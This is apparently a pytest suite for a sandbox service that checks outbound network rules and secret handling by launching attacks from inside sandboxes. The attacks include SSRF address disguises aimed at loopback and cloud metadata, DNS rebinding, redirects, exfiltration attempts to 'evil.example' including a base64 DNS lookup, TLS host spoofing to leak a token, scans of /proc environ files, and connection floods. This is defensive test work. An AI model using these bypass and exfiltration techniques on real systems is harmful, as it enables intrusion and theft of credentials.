"""Promise: a sandbox reaches what its `egress` says and nothing else, and never has the value of a secret.

A whole daemon runs in the middle of a small internet (tests/worlds); sandboxes attack from its inside.
"""

from __future__ import annotations

import base64
import json

import pytest

import worlds
from networks import CALL_S, Networked, run
from podflare import EgressLog, Sandbox, Secret

VALUE = "sk-the-real-value-of-a-secret"


def reasons(log: EgressLog, host: str) -> str:
    """Why entries about a name or address were not allowed."""
    return " | ".join(one.reason for one in log.entries if host in (one.host, one.address) and one.verdict != "allowed")


FORBIDDEN_ADDRESSES = [
    (worlds.PRIVATE, 80),
    (worlds.METADATA, 80),
    (worlds.OWN, worlds.OWN_PORT),
    ("93.184.216.3", worlds.OWN_PORT),
    ("198.18.0.1", worlds.OWN_PORT),
    ("198.19.255.254", 80),
    ("100.64.0.1", 80),
    ("192.0.2.1", 80),
    ("224.0.0.1", 80),
    ("255.255.255.255", 80),
    ("240.0.0.1", 80),
    ("172.17.0.1", 80),
]
FORBIDDEN_NAMES = [
    "private.example.com", "loop.example.com", "mapped.example.com", "metadata.example.com", "own.example.com",
    "localhost.example.com", "localhost", "metadata.google.internal",
]  # fmt: skip
DISGUISES = [
    "127.0.0.1:8080", "127.1:8080", "2130706433:8080", "0x7f000001:8080", "0177.0.0.1:8080", "0.0.0.0:8080",
    "[::1]:8080", "[::ffff:127.0.0.1]:8080", "[::ffff:7f00:1]:8080", "[::ffff:10.77.0.5]:80", "[64:ff9b::a4d:5]:80",
    "[2002:a4d:5::1]:80", "[fe80::1%25eth0]:80", "[2606:2800:220:1::2]:8080", "10.77.0.5:80", "169.254.169.254:80",
    "localhost:8080", "LOCALHOST.:8080", "93.184.216.2:8080", "198.18.0.2:22", "user@127.0.0.1:8080", ":80", "[]:80",
]  # fmt: skip


@pytest.mark.parametrize("egress", [True, ["*.example.com"]], ids=["everything", "names"])
@pytest.mark.both_engines
def test_what_is_never_reachable(networked: Networked, egress: bool | list[str]) -> None:
    """The machine's own addresses, private ones and metadata are refused at once, by address, by name, in disguise."""
    with networked.sandbox(egress) as sandbox:
        found = run(
            sandbox,
            f"""
for host, port in {FORBIDDEN_ADDRESSES!r}: found[host] = connect(host, port)
for host in ("::1", "::ffff:10.77.0.5", "::ffff:169.254.169.254", "64:ff9b::a4d:5", "2606:2800:220:1::2", "fe80::1"):
    found[host] = connect(host, 80, socket.AF_INET6)
for name in {FORBIDDEN_NAMES!r}:
    for port in (80, 443, 8080):
        found[f"{{name}} {{port}}"] = connect(name, port)
        found[f"CONNECT {{name}} {{port}}"] = proxied(f"CONNECT {{name}}:{{port}} HTTP/1.1")
    found[f"GET {{name}}"] = proxied(f"GET http://{{name}}/ HTTP/1.1")
for target in {DISGUISES!r}:
    found[f"CONNECT {{target}}"] = proxied(f"CONNECT {{target}} HTTP/1.1")
    found[f"GET {{target}}"] = proxied(f"GET http://{{target}}/ HTTP/1.1")
for _ in range(12):
    found[f"rebind {{_}}"] = proxied("GET http://rebind.example.com/ HTTP/1.1")
""",
        )
        rebound = {what: found.pop(what) for what in list(found) if what.startswith("rebind")}
        assert all(not answer.startswith(("REACHED", "HTTP/1.1 200", "slow")) for answer in found.values()), found
        assert all(answer.split()[1] in ("200", "403", "502") for answer in rebound.values()), rebound
        seen = networked.world.requests()
        assert {one["address"] for one in seen} <= {worlds.WEB}, "a name may lead to its public address only"
        log = sandbox.egress_log()
        assert any(one.address == worlds.METADATA or one.host == worlds.METADATA for one in log.entries)
        elsewhere = [one for one in log.entries if one.protocol != "dns" and one.address != worlds.WEB]
        assert {one.verdict for one in elsewhere} <= {"refused", "failed"}, elsewhere


@pytest.mark.any_engine
def test_names_that_are_not_allowed(networked: Networked) -> None:
    """With a list, other names and raw addresses are refused with a reason, and not even asked for outside."""
    with networked.sandbox(["api.example.com", "*.example.org", "other.example.com:8443"]) as sandbox:
        found = run(
            sandbox,
            f"""
found["allowed"] = fetch("http://api.example.com/hello")
found["allowed direct"] = fetch("http://deep.sub.example.org/hello", direct=True)
found["allowed tls"] = fetch("https://api.example.com/hello", cafile="/root/world.pem")
found["allowed port"] = fetch("https://other.example.com:8443/hello", direct=True, cafile="/root/world.pem")
found["apex"] = fetch("http://example.org/")
found["port"] = proxied("CONNECT api.example.com:22 HTTP/1.1")
found["port direct"] = connect("api.example.com", 7000)
found["other port"] = fetch("http://other.example.com/")
found["evil"] = fetch("http://evil.example/")
found["evil tls"] = fetch("https://evil.example/")
found["evil direct"] = fetch("http://evil.example/", direct=True)
found["raw"] = connect({worlds.WEB!r}, 80)
found["raw proxied"] = proxied("CONNECT {worlds.WEB}:443 HTTP/1.1")
found["resolver"] = connect({worlds.RESOLVER!r}, 53)
found["redirect"] = fetch("http://api.example.com/redirect?to=http%3A%2F%2Fevil.example%2F")
found["redirect to metadata"] = fetch("http://api.example.com/redirect?to=http%3A%2F%2F169.254.169.254%2F")
found["redirect to the machine"] = fetch("http://api.example.com/redirect?to=http%3A%2F%2F127.0.0.1%3A8080%2F")
for name in ("c2VjcmV0.evil.example", "api.example.com.evil.example", "xapi.example.com", "example.com"):
    found["lookup " + name] = attempt(lambda: socket.gethostbyname(name))
""",
        )
        for what in ("allowed", "allowed direct", "allowed tls", "allowed port"):
            assert found[what].startswith("200 ") and "/hello" in found[what], (what, found[what])
        assert "api.example.com" in found["evil"] and found["evil"].startswith(
            "403 egress to evil.example is not allowed"
        )
        assert "403" in found["evil tls"] and found["apex"].startswith("403") and found["other port"].startswith("403")
        assert found["port"].startswith("HTTP/1.1 403") and "port 22" in found["port"]
        assert found["raw proxied"].startswith("HTTP/1.1 403")
        for what in ("port direct", "raw", "resolver"):
            assert "Connection refused" in found[what], (what, found[what])
        for what in ("redirect", "redirect to metadata"):
            assert found[what].startswith("403"), (what, found[what])
        assert "Connection refused" in found["redirect to the machine"], "NO_PROXY: its own loopback"
        assert all("gaierror" in found[what] for what in found if what.startswith("lookup")), found
        assert "not known" in found["evil direct"]
        asked = {name for name in networked.world.queries() if not name.endswith("in-addr.arpa")}
        assert asked <= {"api.example.com", "deep.sub.example.org", "other.example.com"}, asked
        assert {one["address"] for one in networked.world.requests()} <= {worlds.WEB, worlds.OTHER_WEB}
        assert "not allowed for this sandbox" in reasons(sandbox.egress_log(), "evil.example")


@pytest.mark.both_engines
def test_everything_public_and_nothing_else(networked: Networked) -> None:
    """With True any port of TCP works, transparently and in bulk; datagrams and raw packets do not, and fail at once."""
    with networked.sandbox(True) as sandbox:
        found = run(
            sandbox,
            f"""
def bulk():
    with socket.create_connection(({worlds.WEB!r}, 7003), timeout=30) as s:
        s.sendall(b"20000000\\n")
        size = 0
        while data := s.recv(1 << 20): size += len(data)
        return str(size)
def echo():
    with socket.create_connection(("api.example.com", 7000), timeout=30) as s:
        s.sendall(b"ping"); return s.recv(4).decode()
def datagram(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(20); s.connect((host, port)); s.send(b"x"); s.recv(1); return "REACHED"
found["bulk"], found["echo"] = attempt(bulk), attempt(echo)
found["raw web"] = fetch("http://{worlds.WEB}/hello", direct=True)
found["six"] = fetch("http://six.example.com/hello")
for host, port in (({worlds.WEB!r}, 443), ({worlds.METADATA!r}, 123), ({worlds.PRIVATE!r}, 161), ({worlds.WEB!r}, 5353)):
    found[f"udp {{host}} {{port}}"] = attempt(lambda: datagram(host, port))
found["nobody there"] = connect({worlds.WEB!r}, 9)
for kind, protocol in ((socket.SOCK_RAW, 1), (socket.SOCK_DGRAM, 1), (socket.SOCK_RAW, 255), (socket.SOCK_SEQPACKET, 132)):
    found[f"socket {{int(kind)}} {{protocol}}"] = attempt(lambda: str(socket.socket(socket.AF_INET, kind, protocol)))
found["v6"] = connect({worlds.WEB6!r}, 80, socket.AF_INET6)
""",
        )
        assert (found["bulk"], found["echo"]) == ("20000000", "ping")
        assert found["raw web"].startswith("200") and found["six"].startswith("200"), found
        for what, answer in found.items():
            if what.startswith(("udp", "socket", "nobody", "v6")):
                assert "Error" in answer and not answer.startswith("slow"), (what, answer)
        udp = [one for one in sandbox.egress_log().entries if one.protocol == "udp"]
        assert udp and all(one.verdict == "refused" and one.reason for one in udp)


@pytest.mark.any_engine
def test_private_networks_only_where_operator_and_creator_say_so(networked: Networked) -> None:
    """A network of PODFLARE_EGRESS_PRIVATE is open to the sandbox that names it, on its port, and to no other."""
    with networked.sandbox([f"{worlds.PRIVATE}:80"]) as sandbox:
        found = run(
            sandbox,
            f"""
found["named"] = fetch("http://{worlds.PRIVATE}/hello", direct=True)
found["port"] = connect({worlds.PRIVATE!r}, 443)
found["neighbour"] = connect("10.77.0.6", 80)
found["metadata"] = connect({worlds.METADATA!r}, 80)
""",
        )
        assert found["named"].startswith("200") and len(found) == 4
        assert all("Error" in answer for what, answer in found.items() if what != "named"), found


@pytest.mark.any_engine
def test_the_value_of_a_secret_goes_to_its_hosts_only(networked: Networked) -> None:
    """Over TLS to its host the value stands in headers and query; everywhere else, and inside, the placeholder does."""
    secrets = {"TOKEN": Secret(VALUE, hosts=["api.example.com"])}
    with networked.sandbox(["api.example.com", "other.example.com"], secrets) as parent:
        (child,) = parent.fork()
        with child:
            for sandbox in (parent, child):
                _spend_the_secret(networked, sandbox)
        log = parent.egress_log()
        assert log.secrets == {"TOKEN": ("api.example.com",)}
        told = json.dumps([log.to_json(), parent.info().to_json()])
        assert VALUE not in told
    assert not [path for path in networked.folder.rglob("*") if path.is_file() and VALUE.encode() in path.read_bytes()]


def _spend_the_secret(networked: Networked, sandbox: Sandbox) -> None:
    found = run(
        sandbox,
        """
import base64, glob
token = os.environ["TOKEN"]
basic = "Basic " + base64.b64encode(("user:" + token).encode()).decode()
bearer = {"Authorization": "Bearer " + token}
found["token"] = token
found["proxied"] = fetch("https://api.example.com/headers1", bearer)[:3]
found["direct"] = fetch("https://api.example.com/headers2?key=" + token, {"Authorization": basic}, direct=True)[:3]
found["body"] = fetch("https://api.example.com/body", data=token.encode())[:3]
found["plain"] = fetch("http://api.example.com/plain", bearer)[:3]
found["plain direct"] = fetch("http://api.example.com/plain", bearer, direct=True)
found["other"] = fetch("https://other.example.com/other", bearer, cafile="/root/world.pem")[:3]
def pretend(act_host, name):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    with socket.create_connection((act_host, 443), timeout=20) as raw, context.wrap_socket(raw, server_hostname=name) as s:
        s.sendall(f"GET /pretend HTTP/1.1\\r\\nHost: {name}\\r\\nX-Token: {token}\\r\\nConnection: close\\r\\n\\r\\n".encode())
        return s.recv(12).decode("latin-1")
found["other as api"] = attempt(lambda: pretend("other.example.com", "api.example.com"))
found["api as other"] = attempt(lambda: pretend("api.example.com", "other.example.com"))
trails = glob.glob("/proc/[0-9]*/environ") + glob.glob("/root/*") + glob.glob("/etc/*") + glob.glob("/tmp/*")
def has(path):
    try: return b"the-real-" + b"value" in open(path, "rb").read()
    except OSError: return False
found["inside"] = [path for path in trails if os.path.isfile(path) and has(path)]
""",
    )
    placeholder = found["token"]
    assert placeholder.startswith("podflare-secret-") and found["inside"] == []
    assert [found[what] for what in ("proxied", "direct", "body", "other")] == ["200"] * 4, found
    assert (found["plain"], "TimeoutError" in found["plain direct"]) == ("403", False)
    seen = {one["target"].partition("?")[0]: one for one in networked.world.requests()}
    assert _header(seen["/headers1"], "authorization") == f"Bearer {VALUE}"
    assert base64.b64decode(_header(seen["/headers2"], "authorization").split()[1]).decode() == f"user:{VALUE}"
    assert seen["/headers2"]["target"].endswith(f"?key={VALUE}")
    assert seen["/body"]["body"] == placeholder
    assert "/plain" not in seen or _header(seen["/plain"], "authorization") == f"Bearer {placeholder}"
    assert _header(seen["/other"], "authorization") == f"Bearer {placeholder}"
    for path, one in seen.items():
        assert VALUE not in json.dumps(one) or (one["address"] == worlds.WEB and one["scheme"] == "https"), path


def _header(request: dict, name: str) -> str:
    return next(value for key, value in request["headers"] if key == name)


@pytest.mark.both_engines
def test_a_sandbox_without_egress_reaches_no_gate(networked: Networked) -> None:
    """Beside networked sandboxes one that asked for nothing has loopback alone: not even the gate answers."""
    with networked.sandbox(None) as sandbox:
        found = run(
            sandbox,
            f"""
for host, port in ((PROXY[0], PROXY[1]), ("198.18.0.2", 80), ({worlds.WEB!r}, 80), ({worlds.OWN!r}, {worlds.OWN_PORT})):
    found[host] = connect(host, port)
found["name"] = attempt(lambda: socket.gethostbyname("api.example.com"))
""",
        )
        assert len(found) == 5 and all("unreachable" in one or "gaierror" in one for one in found.values()), found


@pytest.mark.any_engine
def test_a_flood_hurts_its_own_sandbox(networked: Networked) -> None:
    """While one sandbox opens connections, asks names and half-speaks to the proxy without end, a neighbour is served."""
    with networked.sandbox(True) as hostile, networked.sandbox(["api.example.com"]) as neighbour:
        flood = hostile.run_code(
            f"""
held = []
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.setblocking(False)
def hold(host, port, text=b""):
    try:
        s = socket.socket(); s.setblocking(False); held.append(s)
        s.connect_ex((host, port))
        if text:
            s.setblocking(True); s.settimeout(1); s.sendall(text)
    except OSError: pass
for number in range(1500):
    hold({worlds.WEB!r}, 7001) if number % 3 else hold(*PROXY)
    if number % 100 == 0: hold(*PROXY, b"GET http://api.example.com/ HTTP/1.1\\r\\nX: " + b"y" * 60000)
for number in range(3000):
    try: u.sendto(os.urandom(60), ("198.18.0.1", 53))
    except OSError: pass
print(len(held))
""",
            timeout=CALL_S,
        )
        assert flood.ok and int(flood.stdout) > 900, flood.stderr
        answer = run(neighbour, "found['hello'] = fetch('http://api.example.com/hello')")
        assert answer["hello"].startswith("200"), answer
        log = hostile.egress_log()
        assert len(log.entries) <= 1000
        assert all(one.host.isascii() and one.host.isprintable() and len(one.host) <= 300 for one in log.entries)
